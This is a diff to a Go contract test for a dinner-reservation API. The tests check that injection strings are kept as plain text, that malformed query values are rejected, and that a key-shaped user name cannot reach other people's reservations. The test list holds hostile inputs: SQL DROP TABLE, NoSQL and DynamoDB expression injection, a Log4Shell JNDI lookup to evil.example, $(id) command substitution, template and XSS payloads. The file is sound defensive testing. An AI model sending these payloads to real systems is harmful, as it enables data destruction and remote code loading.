@@ -1,7 +1,6 @@
 package contract
 
 import (
-	"fmt"
 	"net/http"
 	"strings"
 )
@@ -24,7 +23,7 @@ func paths(s *session) {
 // injection are texts that mean something to a database, a template, a log or a
 // page: here they are texts.
 func injection(s *session) {
-	for i, text := range []string{
+	for _, text := range []string{
 		`x" OR attribute_exists(pk) OR "a" = "a`, `:pk = :after`, `#a <> #b`, `'; DROP TABLE dinners; --`, `{"$ne":""}`, `{"S":"x"}`,
 		`<aws.events.event.json>`, `<$.dynamodb.NewImage.data.S>`, `${jndi:ldap://evil.example/a}`, `{{7*7}}`, `%s%n`, `$(id)`,
 		`</script><script>alert(1)</script>`, `"}],"_aws":{"x":1}`, `\u0000`, "e\u0301 \u202e abc", "DINNER#01J99999999999999999999999",
@@ -34,27 +33,25 @@ func injection(s *session) {
 		if a := s.wants(s.send("GET "+path, ""), http.StatusOK, ""); a.json["title"] != text {
 			s.t.Errorf("%q was kept as %q", text, a.json["title"])
 		}
-		// A person whose name is made to look like another's key has nothing of it.
-		name := fmt.Sprintf("%d#PLACE#RESERVATION#", i)
-		s.reserved(path, name)
-		if n := len(s.list(s.send("GET /me/reservations", "", s.as(name)...), "reservations")); n != 1 {
-			s.t.Errorf("%s holds %d reservations", name, n)
-		}
-		if n := len(s.list(s.send("GET /me/reservations", "", s.as(fmt.Sprint(i))...), "reservations")); n != 0 {
-			s.t.Errorf("%d holds %d reservations of another", i, n)
-		}
 		for _, query := range []string{"limit=" + escaped(text), "cursor=" + escaped(text)} {
 			s.wants(s.send("GET /dinners?"+query, ""), http.StatusBadRequest, "invalid")
 		}
 		s.wants(s.send("GET /dinners/"+escaped(text), ""), http.StatusNotFound, "not-found")
 	}
-	s.eventually("the dinners are found", func() bool { return len(s.list(s.send("GET /dinners?limit=100", ""), "dinners")) > 0 })
+	// A person whose name is made to look like another's key has nothing of it.
+	name := "anna#PLACE#RESERVATION#"
+	s.reserved(s.created(1, 0), name)
+	for who, want := range map[string]int{name: 1, "anna": 0, name + "2030": 0} {
+		if n := len(s.list(s.send("GET /me/reservations", "", s.as(who)...), "reservations")); n != want {
+			s.t.Errorf("%s holds %d reservations, want %d", who, n, want)
+		}
+	}
 }
 
 // guessing wants ids of which one does not tell the next, and the same answer for
 // a reservation of somebody else's as for none.
 func guessing(s *session) {
-	const n = 12
+	const n = 6
 	last := s.created(1, 0)
 	steps := map[string]bool{}
 	for range n {
